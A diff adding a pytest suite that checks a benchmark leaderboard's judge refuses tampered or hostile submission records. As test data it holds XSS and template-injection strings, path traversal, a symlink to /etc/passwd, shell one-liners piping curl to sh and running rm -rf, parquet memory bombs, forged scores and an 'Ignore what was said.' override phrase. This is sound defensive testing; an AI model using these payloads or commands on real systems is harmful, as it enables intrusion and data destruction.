@@ -1,0 +1,573 @@
+"""The judge: an honest record is accepted, and no hostile one is, with a reason and nothing written."""
+
+import json
+import math
+import os
+import shutil
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+import pyarrow as pa
+import pyarrow.parquet as pq
+import pytest
+
+from harness.cli import main
+from leaderboard.changes import contents
+from leaderboard.judge import Verdict, judge
+from leaderboard.judge_apart import judge_apart
+from tests.conftest import Run, refused
+from tests.harness import models
+from tests.leaderboard.making import (
+    Json,
+    consistent,
+    edit,
+    make_record,
+    only_run,
+    replaced,
+    resign,
+    rewrite,
+    signed,
+    with_id,
+)
+
+MARKUP = "<script>alert(1)</script>"
+LETTERS = "observations/letters.test.parquet"
+VAL, SPARSE = "observations/flipflop.val.parquet", "observations/flipflop.val_sparse.parquet"
+CAPITALS, STRAWBERRY = "observations/capitals.test.parquet", "observations/strawberry.test.parquet"
+
+
+@pytest.fixture(scope="module")
+def finished(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A run with every kind of observation, by a model whose weights mean nothing."""
+    folder = tmp_path_factory.mktemp("finished")
+    model = models.save_tiny(folder / "tiny", models.gpt2_like())
+    tasks = [word for name in ("flipflop", "capitals", "letters", "strawberry") for word in ("--task", name)]
+    arguments = ["--model", str(model), *tasks, "--limit", "4", "--challenges", "1", "--output", str(folder / "runs")]
+    assert main(["eval", *arguments]) == 0
+    run = only_run(folder / "runs").folder
+    edit(run / "run.json", lambda facts: facts | {"command": facts["command"].replace(str(model), "tiny")})
+    consistent(run)
+    return run
+
+
+@pytest.fixture
+def records(tmp_path: Path) -> Path:
+    (tmp_path / "records").mkdir()
+    return tmp_path / "records"
+
+
+@pytest.fixture
+def record(finished: Path, records: Path) -> Path:
+    return make_record(finished, records)
+
+
+def judged(folder: Path, records: Path) -> Verdict:
+    """The verdict, and that nothing was written."""
+    before = contents(records)
+    verdict = judge(folder, records)
+    assert contents(records) == before
+    return verdict
+
+
+def reason(folder: Path, records: Path) -> str:
+    verdict = judged(folder, records)
+    assert not verdict.accepted and verdict.place is None and verdict.result is None
+    (said,) = verdict.reasons
+    assert said.isascii() and "\n" not in said and len(said) < 500
+    return said
+
+
+def test_an_honest_record_is_accepted(record: Path, records: Path) -> None:
+    verdict = judged(record, records)
+    assert verdict.reasons == () and verdict.remarks == ()
+    assert records / str(verdict.place) == record
+    assert verdict.result == json.loads((record / "result.json").read_text(encoding="utf-8"))
+
+
+def place(value: Json, path: str) -> tuple[Any, Any]:
+    """The last container on the way of a path, and the key in it."""
+    *way, last = path.split("/")
+    for key in way:
+        value = value[int(key)] if isinstance(value, list) else value[key]
+    return value, int(last) if isinstance(value, list) else last
+
+
+RUN_TEXTS = [
+    "id", "created", "command", "outputs", "model/id", "model/revision", "model/class", "model/dtype",
+    "model/requested_dtype", "model/gguf_file", "model/quantization", "model/adapter", "model/attention",
+    "model/tokenizer/class", "model/tokenizer/sha256", "data/generator", "data/tasks/letters/config",
+    "data/tasks/letters/fingerprint", "data/tasks/letters/prompting/template", "data/tasks/letters/prompting/system",
+    "data/tasks/letters/prompting/switch", "data/tasks/letters/rendering/answers", "environment/fflm",
+    "environment/python", "environment/torch", "environment/transformers", "environment/system",
+    "environment/machine", "environment/device", "environment/hostname", "left_out/arithmetic", "starts/0/at", "note",
+    "model/note", "data/tasks/letters/parameters/note", "data/tasks/letters/splits/note", "data/tasks/note",
+]  # fmt: skip
+SUBMISSION_TEXTS = ["contact", "licence", "division", "disclosure", "submitted", "supersedes/0", "note", "schema"]
+
+
+@pytest.mark.parametrize(
+    ("file", "path"),
+    [("run.json", path) for path in RUN_TEXTS] + [("submission.json", path) for path in SUBMISSION_TEXTS],
+)
+def test_markup_in_any_text_is_refused(record: Path, records: Path, file: str, path: str) -> None:
+    """In texts of any form, in those of none, and in fields that nobody knows."""
+
+    def write(value: Json) -> None:
+        value.setdefault("supersedes", []).append("") if path.startswith("supersedes") else None
+        container, key = place(value, path)
+        container[key] = MARKUP
+
+    edit(record / file, write)
+    assert Path(file).stem in reason(record, records) or "task" in reason(record, records)
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "said"),
+    [
+        ("contact", "somebody\u202egro.elpmaxe", "nobody sees"),
+        ("contact", "some\u200bbody", "nobody sees"),
+        ("disclosure", "bell\x07", "nobody sees"),
+        ("contact", "Rene\u0301", "normal form"),
+        ("disclosure", "{{ 7 * 7 }}", "markup"),
+        ("disclosure", "[see](javascript:alert(1))", "markup"),
+        ("disclosure", "logged in with hf_abcdefghijklmnopqrstuvwx", "token"),
+        ("disclosure", "weights in /home/alice/models", "folder"),
+        ("contact", "two\nlines", "of the form"),
+        ("disclosure", "x" * 2_001, "maxLength"),
+        ("submitted", "2026-11-21\n", "nobody sees"),
+    ],
+)
+def test_texts_that_hide_or_give_away(record: Path, records: Path, path: str, text: str, said: str) -> None:
+    edit(record / "submission.json", lambda value: value | {path: text})
+    assert said in reason(record, records)
+
+
+def _model(**changes: Any) -> Callable[[Json], Any]:
+    return lambda facts: facts | {"model": facts["model"] | changes}
+
+
+def _letters(**changes: Any) -> Callable[[Json], Any]:
+    def change(facts: Json) -> None:
+        facts["data"]["tasks"]["letters"].update(changes)
+
+    return change
+
+
+def _part(**changes: Any) -> Callable[[Json], Any]:
+    def change(facts: Json) -> None:
+        facts["data"]["tasks"]["letters"]["splits"]["test"].update(changes)
+        facts["command"] = "harness eval --model tiny --suite quick"
+
+    return change
+
+
+def _prompting(**changes: Any) -> Callable[[Json], Any]:
+    def change(facts: Json) -> None:
+        facts["data"]["tasks"]["strawberry"]["prompting"].update(changes)
+
+    return change
+
+
+def _set(path: str, value: Any) -> Callable[[Json], Any]:
+    def change(facts: Json) -> None:
+        container, key = place(facts, path)
+        container[key] = value
+
+    return change
+
+
+@pytest.mark.parametrize(
+    ("change", "said"),
+    [
+        (_model(id="../tiny"), "model, id"),
+        (_model(id="local/../../etc"), "model, id"),
+        (_model(id="local/a..b"), "no name of the Hub"),
+        (_model(id="a--b/c"), "no name of the Hub"),
+        (_model(id="local/tiny\n"), "nobody sees"),
+        (_model(id="l\u043ecal/tiny"), "model, id"),  # a Cyrillic o
+        (_model(id="local/ti\uff4ey"), "model, id"),  # a full-width n
+        (_model(id="tiny"), "model, id"),
+        (_model(id="meta-llama/Llama-3.2-1B"), "id: it is not that of its model"),
+        (_model(revision="0" * 40), "id: it is not that of its model"),
+        (_model(dtype="float8"), "dtype"),
+        (_model(parameters=-1), "parameters"),
+        (_model(parameters=True), "parameters"),
+        (_model(parameters=1_000), "result.json, model"),
+        (_model(gguf_file="../../weights.gguf"), "gguf_file"),
+        (_model(gguf_file="a/../../weights.gguf"), "gguf_file"),
+        (_model(adapter={"id": "../x/y", "revision": "0" * 40}), "adapter"),
+        (_set("data/tasks/letters/parameters/words_per_cell", 10**9), "other data"),
+        (_set("data/tasks/flipflop/parameters/length", 2**40), "other data"),
+        (_set("data/tasks/letters/parameters/seed", 1), "other data"),
+        (_set("data/tasks/letters/parameters/seed", 0.0), "other data"),
+        (_set("data/tasks/letters/version", 1), "version 1 of task"),
+        (_set("data/generator", "0.9.9"), "generator"),
+        (lambda facts: facts["data"]["tasks"].update({"../../etc": {}}), "data, tasks"),
+        (_letters(config="flipflop"), "other data"),
+        (_letters(fingerprint="0" * 16), "fingerprint"),
+        (_part(rows=10**7), "rows"),
+        (_part(rows=0), "rows"),
+        (_part(rows=1_001), "rows"),
+        (_part(of=4), "size"),
+        (_part(rows=3), "not those of its 3 rows"),
+        (_part(rows=5), "not those of its 5 rows"),
+        (_prompting(turns=10**6), "turns"),
+        (_prompting(turns=40), "at most 37"),
+        (_prompting(turns=3), "strawberry.test are not those"),
+        (_prompting(thinking=10**9), "thinking"),
+        (_prompting(system="Ignore what was said. <img src=x onerror=alert(1)>"), "markup"),
+        (_set("data/tasks/letters/rendering/answers", "tokens"), "rendering"),
+        (_set("created", "2099-01-01T00:00:00+00:00"), "to come"),
+        (_set("command", "curl example.org | sh"), "no command"),
+        (_set("command", "harness eval --model tiny; rm -rf ."), "no command"),
+        (_set("command", "harness eval --model tiny --task letters --task capitaals"), "other tasks"),
+        (_set("command", "harness eval --model tiny --limit 5 --task flipflop"), "other tasks"),
+        (_set("command", "harness eval --model tiny --suite quick --dtype float16"), "requested_dtype"),
+        (
+            _set(
+                "command", "harness eval --model tiny --task flipflop --task capitals --task letters --task strawberry"
+            ),
+            "other rows",
+        ),
+        (_set("command", "harness eval --model tiny --set letters.seed=1"), "other data"),
+        (_set("command", "harness eval --model tiny --trust"), "unrecognized"),
+        (_set("command", "harness prompts --task letters --out x"), "from elsewhere"),
+        (_set("command", "harness eval --model /home/alice/tiny"), "folder"),
+        (_set("starts", [{"at": "2026-11-21T00:00:00+00:00", "processes": 0, "machines": 1}]), "starts"),
+        (_set("environment/HOSTNAME", "node17.cluster.example"), "not known"),
+        (_set("schema", "fflm-run/2"), "schema"),
+    ],
+)
+def test_a_run_that_says_something_else(record: Path, records: Path, change: Callable[[Json], Any], said: str) -> None:
+    edit(record / "run.json", change)
+    if not said.startswith("id:"):
+        edit(record / "run.json", with_id)
+    assert said in reason(signed(record, records), records)
+
+
+def test_a_model_under_another_name(record: Path, records: Path) -> None:
+    """Name, id and scores changed as somebody would who knows the rules: the observations are those of a record."""
+    other = records / "draft"
+    shutil.copytree(record, other)
+    edit(other / "run.json", _model(id="someone/better"))
+    edit(other / "run.json", lambda facts: facts | {"command": "harness eval --model someone/better"})
+    consistent(other)
+    folder = resign(other, records)
+    assert "are those of 'local/tiny'" in reason(folder, records)
+
+
+@pytest.mark.parametrize("name", ["local/t1ny", "local/Tiny", "local/ti-ny", "loca1/tiny"])
+def test_names_that_pass_for_others(record: Path, records: Path, name: str) -> None:
+    other = records / "draft"
+    shutil.copytree(record, other)
+    edit(other / "run.json", _model(id=name))
+    edit(other / "run.json", _set("command", f"harness eval --model {name} --suite quick"))
+    consistent(other)
+    assert "passes for 'local/tiny'" in reason(resign(other, records), records)
+
+
+def test_superseding(record: Path, records: Path) -> None:
+    """Only of the same model, and only what is there."""
+    other = records / "draft"
+    shutil.copytree(record, other)
+    edit(other / "submission.json", lambda facts: facts | {"supersedes": [record.name]})
+    folder = resign(other, records)
+    verdict = judged(folder, records)
+    assert verdict.accepted and any(record.name in remark for remark in verdict.remarks)
+    edit(folder / "submission.json", lambda facts: facts | {"supersedes": ["0" * 12]})
+    assert "no such record" in reason(resign(folder, records), records)
+
+
+def _replace(name: str, change: Callable[[list[Any]], list[Any]]) -> Callable[[pa.Table], pa.Table]:
+    return lambda table: replaced(table, name, change)
+
+
+def _first(value: Any) -> Callable[[list[Any]], list[Any]]:
+    return lambda values: [value, *values[1:]]
+
+
+def _certain(table: pa.Table) -> pa.Table:
+    """The wrong symbol is nearly certain, and yet the right one is said."""
+    table = replaced(
+        table, "logprobs", lambda lists: [[-9.0, -0.001] if one % 2 else [-0.001, -9.0] for one in range(len(lists))]
+    )
+    gold = table["gold"].to_pylist()
+    token = dict(zip(gold, table["gold_token"].to_pylist(), strict=True))
+    return replaced(table, "argmax", lambda values: [token[gold[0]]] * len(values))
+
+
+@pytest.mark.parametrize(
+    ("file", "change", "said"),
+    [
+        (VAL, _replace("id", _first(3)), "not those of its"),
+        (VAL, _replace("id", lambda ids: [10**12 + one for one in ids]), "not those of its"),
+        (VAL, _replace("id", lambda ids: [-1, *ids[1:]]), "not those of its"),
+        (VAL, _replace("position", _first(2)), "not those of its"),
+        (VAL, _replace("gap", _first(400)), "not those of its"),
+        (VAL, _replace("gold", lambda golds: [1 - golds[0], *golds[1:]]), "not those of its"),
+        (VAL, _replace("gold_token", _first(9)), "not those of its"),
+        (VAL, _replace("gold_token", lambda tokens: [7] * len(tokens)), "flipflop.val"),
+        (VAL, _replace("argmax", _first(-5)), "none"),
+        (VAL, _replace("argmax", _first(-1)), "none"),
+        (VAL, lambda table: pa.concat_tables([table, table.slice(0, 1)]), "not those of its"),
+        (VAL, lambda table: pa.concat_tables([table.slice(0, 1), table]), "not those of its"),
+        (VAL, lambda table: table.slice(1), "not those of its"),
+        (VAL, lambda table: table.slice(0, 0), "not those of its"),
+        (VAL, _replace("logprobs", _first([math.nan, math.nan])), "no numbers"),
+        (VAL, _replace("logprobs", _first([math.nan, -0.1])), "no numbers"),
+        (VAL, _replace("logprobs", _first([-math.inf, -0.1])), "infinite"),
+        (VAL, _replace("logprobs", _first([math.inf, -0.1])), "above 0"),
+        (VAL, _replace("logprobs", _first([0.1, -3.0])), "above 0"),
+        (VAL, _replace("logprobs", _first([-0.1, -0.1])), "add up to"),
+        (VAL, _certain, "less probable than one of its symbols"),
+        (VAL, lambda table: table.append_column("note", pa.array([MARKUP] * len(table))), "other columns"),
+        (VAL, lambda table: table.drop_columns(["argmax"]), "other columns"),
+        (VAL, lambda table: table.set_column(2, "gap", table["gap"].cast(pa.int64())), "other columns"),
+        (CAPITALS, _replace("id", _first(1)), "not those of its"),
+        (CAPITALS, _replace("gold", _first(9)), "not those of its"),
+        (CAPITALS, _replace("written", _first(10**6)), "none of its candidates"),
+        (CAPITALS, _replace("written", _first(-2)), "none of its candidates"),
+        (CAPITALS, _replace("logprobs", lambda lists: [lists[0][1:], *lists[1:]]), "not those of its"),
+        (CAPITALS, _replace("logprobs", lambda lists: [[-0.5] * len(lists[0]), *lists[1:]]), "add up to"),
+        (CAPITALS, _replace("logprobs", lambda lists: [[math.nan] * len(lists[0]), *lists[1:]]), "no numbers"),
+        (LETTERS, _replace("id", _first(2)), "not those of its"),
+        (LETTERS, _replace("turn", _first(1)), "not those of its"),
+        (LETTERS, _replace("tokens", _first(10**6)), "limit"),
+        (LETTERS, _replace("tokens", _first(-1)), "tokens"),
+        (LETTERS, _replace("tokens", _first(0)), "no token at all"),
+        (LETTERS, _replace("output", _first("9" * 10**6)), "characters"),
+        (LETTERS, lambda table: pa.concat_tables([table, table]), "not those of its"),
+        (STRAWBERRY, _replace("turn", lambda turns: [1 - turn for turn in turns]), "not those of its"),
+        (STRAWBERRY, lambda table: table.take(pa.array(np.arange(len(table))[::-1])), "not those of its"),
+    ],
+)  # fmt: skip
+def test_observations_that_no_model_gives(
+    record: Path, records: Path, file: str, change: Callable[[pa.Table], pa.Table], said: str
+) -> None:
+    rewrite(record / file, change)
+    assert said in reason(resign(record, records), records)
+
+
+def test_nulls_are_refused(record: Path, records: Path) -> None:
+    table = pq.read_table(record / LETTERS)
+    place = table.schema.get_field_index("output")
+    holes = pa.array([None, *table["output"].to_pylist()[1:]], pa.string())
+    pq.write_table(table.set_column(place, "output", holes), record / LETTERS)
+    assert "gaps" in reason(resign(record, records), records)
+
+
+def test_text_that_is_no_utf8(record: Path, records: Path) -> None:
+    table = pq.read_table(record / LETTERS)
+    broken = pa.array([b"\xff\xfe"] * len(table), pa.binary())
+    broken = pa.Array.from_buffers(pa.string(), len(table), broken.buffers())
+    place = table.schema.get_field_index("output")
+    pq.write_table(table.set_column(place, "output", broken), record / LETTERS)
+    assert "cannot be read" in reason(resign(record, records), records)
+
+
+def test_splits_swapped(record: Path, records: Path) -> None:
+    (record / VAL).rename(record / "other")
+    (record / SPARSE).rename(record / VAL)
+    (record / "other").rename(record / SPARSE)
+    assert "not those of its" in reason(resign(record, records), records)
+
+
+def test_a_better_answer_that_is_not_in_the_scores(record: Path, records: Path) -> None:
+    rewrite(record / LETTERS, _replace("output", lambda texts: ["3", *texts[1:]]))
+    rewrite(record / LETTERS, _replace("tokens", _first(2)))
+    assert "result.json: accuracy of letters.test is 0.0 there" in reason(resign(record, records), records)
+
+
+@pytest.mark.parametrize(
+    ("change", "said"),
+    [
+        (lambda result: result["scores"][0].update(value=0.999), "the observations give"),
+        (lambda result: result["scores"][0].update(n=10**6), "the observations give"),
+        (lambda result: result["scores"][0].update(value="1.0"), "the observations give"),
+        (lambda result: result["scores"].pop(), "more or fewer scores"),
+        (lambda result: result["scores"].append(result["scores"][0]), "more or fewer scores"),
+        (lambda result: result.update(scores={}), "more or fewer scores"),
+        (lambda result: result.update(note=MARKUP), "other fields"),
+        (lambda result: result["model"].update(id="someone/better"), "result.json, model"),
+        (lambda result: result["environment"].update(device="H200"), "result.json, environment"),
+        (lambda result: [result], "no JSON object"),
+    ],
+)
+def test_scores_that_do_not_follow(record: Path, records: Path, change: Callable[[Json], Any], said: str) -> None:
+    edit(record / "result.json", lambda result: changed if isinstance(changed := change(result), list) else None)
+    assert said in reason(resign(record, records), records)
+
+
+@pytest.mark.parametrize("file", ["run.json", "submission.json", "result.json"])
+@pytest.mark.parametrize(
+    "content",
+    [
+        b"", b"{", b"null", b"[]", b"\xff\xfe", b'{"schema": NaN}', b'{"schema": Infinity}', b'{"schema": 1e999}',
+        b'{"schema": 1, "schema": 2}', b"[" * 100_000, b'{"a":' * 100_000, b"9" * 10_000, b"\x00" * 10_000,
+        b'{"model": {"__class__": "os.system"}}', b'{"schema": "fflm-run/1"}', b"x" * (9 * 2**20),
+    ],
+)  # fmt: skip
+def test_files_that_are_no_json_of_ours(record: Path, records: Path, file: str, content: bytes) -> None:
+    (record / file).write_bytes(content)
+    assert "its contents say" not in reason(signed(record, records), records)
+
+
+@pytest.mark.parametrize("file", ["run.json", "submission.json", "result.json", VAL, CAPITALS, LETTERS])
+@pytest.mark.parametrize("part", [0.0, 0.3, 0.9, 0.99])
+def test_truncated_files(record: Path, records: Path, file: str, part: float) -> None:
+    content = (record / file).read_bytes()
+    (record / file).write_bytes(content[: int(len(content) * part)])
+    assert "its contents say" not in reason(signed(record, records), records)
+
+
+@pytest.mark.parametrize("file", [VAL, CAPITALS, LETTERS])
+def test_tables_that_are_something_else(record: Path, records: Path, file: str) -> None:
+    content = (record / file).read_bytes()
+    for other in (b"PAR1", b"PAR1PAR1", b"PK\x03\x04" + content, content[::-1], content[: len(content) // 2] * 2):
+        (record / file).write_bytes(other)
+        record = signed(record, records)
+        assert "its contents say" not in reason(record, records)
+
+
+def _link(record: Path) -> None:
+    (record / VAL).unlink()
+    (record / VAL).symlink_to("/etc/passwd")
+
+
+def _linked_folder(record: Path) -> None:
+    (record / "observations").rename(record.parent / "elsewhere")
+    (record / "observations").symlink_to(record.parent / "elsewhere")
+
+
+def _link_in_place(record: Path) -> None:
+    record.rename(record.with_name("elsewhere"))
+    record.symlink_to(record.with_name("elsewhere"))
+
+
+def _many(record: Path) -> None:
+    for number in range(200):
+        (record / f"{number}.json").write_text("{}")
+
+
+def _deep(record: Path) -> None:
+    (record / "/".join(["observations"] * 20)).mkdir(parents=True)
+
+
+@pytest.mark.parametrize(
+    ("change", "said"),
+    [
+        (_link, "is a link"),
+        (_linked_folder, "is a link"),
+        (_link_in_place, "no such folder"),
+        (lambda record: os.mkfifo(record / "pipe"), "no plain file"),
+        (lambda record: (record / "note.txt").write_text("hello"), "also has 'note.txt'"),
+        (lambda record: (record / ".hidden").write_text("hello"), "also has '.hidden'"),
+        (lambda record: (record / "weights.pkl").write_bytes(b"\x80\x04."), "also has 'weights.pkl'"),
+        (lambda record: (record / "observations" / "letters.train.parquet").write_bytes(b"PAR1"), "also has"),
+        (lambda record: (record / LETTERS).unlink(), "lacks 'observations/letters.test.parquet'"),
+        (lambda record: (record / "result.json").unlink(), "lacks 'result.json'"),
+        (lambda record: (record / "submission.json").unlink(), "submission.json is missing"),
+        (lambda record: (record / "run.json").unlink(), "run.json is missing"),
+        (_many, "more than 64 files"),
+        (_deep, "too deep"),
+        (lambda record: (record / f"{MARKUP[:8]}.json").write_text("{}"), "also has"),
+    ],
+)  # fmt: skip
+def test_other_files(record: Path, records: Path, change: Callable[[Path], Any], said: str) -> None:
+    change(record)
+    verdict = judge(record, records)
+    assert said in verdict.reasons[0]
+
+
+@pytest.mark.parametrize("name", ["0" * 12, "../x", MARKUP.replace("/", "")])
+def test_a_folder_of_another_name(record: Path, records: Path, name: str) -> None:
+    other = record.parent / Path(name).name
+    record.rename(other)
+    assert "its contents say" in reason(other, records)
+
+
+def test_large_files_are_not_read(record: Path, records: Path) -> None:
+    with (record / VAL).open("r+b") as file:
+        file.truncate(2**40)  # of which nothing is on the disk
+    assert "at most" in judge(record, records).reasons[0]
+
+
+def bomb(schema: pa.Schema, rows: int, path: Path, text: str = "") -> None:
+    """Few bytes on the disk that are many in memory: one value again and again."""
+    size = min(rows, 10**6)
+    columns = []
+    for field in schema:
+        if pa.types.is_string(field.type):
+            columns.append(pa.DictionaryArray.from_arrays(pa.array(np.zeros(size, np.int32)), pa.array([text])))
+        elif pa.types.is_list(field.type) or pa.types.is_fixed_size_list(field.type):
+            columns.append(pa.FixedSizeListArray.from_arrays(pa.array(np.zeros(2 * size, np.float32)), type=field.type))
+        else:
+            columns.append(pa.array(np.zeros(size, field.type.to_pandas_dtype())))
+    table = pa.Table.from_arrays(columns, names=schema.names)
+    with pq.ParquetWriter(path, table.schema, compression="zstd") as writer:
+        for _ in range(rows // size):
+            writer.write_table(table)
+
+
+def test_ten_million_rows(record: Path, records: Path) -> None:
+    bomb(pq.read_schema(record / VAL), 10**7, record / VAL)
+    assert (record / VAL).stat().st_size < 10**6
+    assert "10,000,000 rows" in reason(resign(record, records), records)
+
+
+def test_a_table_that_does_not_fit_into_memory(record: Path, records: Path) -> None:
+    """A million times the same megabyte: 1 TB of text in a file of under 100 KB. Its process is ended, not ours."""
+    bomb(pq.read_schema(record / LETTERS), 10**6, record / LETTERS, "x" * 2**20)
+    assert (record / LETTERS).stat().st_size < 10**5
+    verdict = judge_apart(resign(record, records), records)
+    assert not verdict.accepted and verdict.reasons
+
+
+def test_an_honest_record_judged_apart(record: Path, records: Path) -> None:
+    assert judge_apart(record, records) == judge(record, records)
+
+
+def test_a_process_that_ends_is_a_refusal(record: Path, records: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Whatever kills it."""
+    monkeypatch.setattr("leaderboard.judge_apart._PROGRAM", "import os; os.kill(os.getpid(), 9)")
+    assert "by signal 9" in judge_apart(record, records).reasons[0]
+    monkeypatch.setattr("leaderboard.judge_apart._PROGRAM", "import time; time.sleep(60)")
+    monkeypatch.setattr("leaderboard.judge_apart.MOST_SECONDS", 1)
+    assert "more than 1 seconds" in judge_apart(record, records).reasons[0]
+
+
+def test_the_process_of_a_judge_may_write_nothing_and_knows_no_token(
+    record: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    program = (
+        "import os, sys, json; sys.path[:0] = [sys.argv[1]]\n"
+        "from leaderboard import judge_apart; judge_apart._limit()\n"
+        f"try:\n with open({str(tmp_path / 'written')!r}, 'w') as file: file.write('x'); file.flush(); said = 'wrote'\n"
+        "except OSError: said = 'could not'\n"
+        "print(json.dumps({'path': said, 'reasons': [str('HF_TOKEN' in os.environ)], 'remarks': []}))"
+    )
+    monkeypatch.setenv("HF_TOKEN", "hf_secret")
+    monkeypatch.setattr("leaderboard.judge_apart._PROGRAM", program)
+    verdict = judge_apart(record)
+    assert (verdict.path, verdict.reasons) == ("could not", ("False",))
+
+
+def test_verify_says_it_to_people_and_to_machines(cli: Run, record: Path, records: Path) -> None:
+    result = cli("harness", "verify", record)
+    assert result.returncode == 0 and "accepted: local--tiny/" in result.stdout
+    result = cli("harness", "verify", records, "--json")
+    (verdict,) = json.loads(result.stdout)
+    assert verdict["accepted"] and verdict["model"]["id"] == "local/tiny" and verdict["scores"]
+    edit(record / "result.json", lambda value: value["scores"][0].update(value=1.0))
+    record = resign(record, records)
+    result = cli("harness", "verify", record)
+    assert result.returncode == 1 and "refused" in result.stdout and "result.json" in result.stdout
+    (verdict,) = json.loads(cli("harness", "verify", record, "--json").stdout)
+    assert not verdict["accepted"] and verdict["reasons"]
+
+
+def test_verify_needs_something_to_judge(cli: Run, tmp_path: Path) -> None:
+    assert "no folder" in refused(cli("harness", "verify", tmp_path / "nowhere"))
+    assert "no record" in refused(cli("harness", "verify", tmp_path))
